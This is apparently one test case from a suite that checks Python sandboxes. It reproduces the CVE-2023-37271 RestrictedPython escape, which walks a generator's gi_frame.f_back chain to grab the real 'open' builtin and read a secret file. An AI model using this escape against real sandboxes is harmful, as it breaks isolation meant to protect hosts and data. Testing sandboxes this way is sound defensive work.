"""Climb from a running generator's frame to the caller's frames and take the builtins found there.

origin: CVE-2023-37271 (RestrictedPython: gi_frame and f_back)
why: frames lead out of any namespace that the interpreter itself sets up
control: succeeds
"""


def attack(target):
    frames = []

    def climb():
        yield
        frame = generator.gi_frame.f_back
        while frame is not None:
            frames.append(frame)
            frame = frame.f_back

    generator = climb()
    list(generator)
    opener = frames[-1].f_builtins["open"]
    return read_secret(target, lambda path: opener(path).read(), "open")
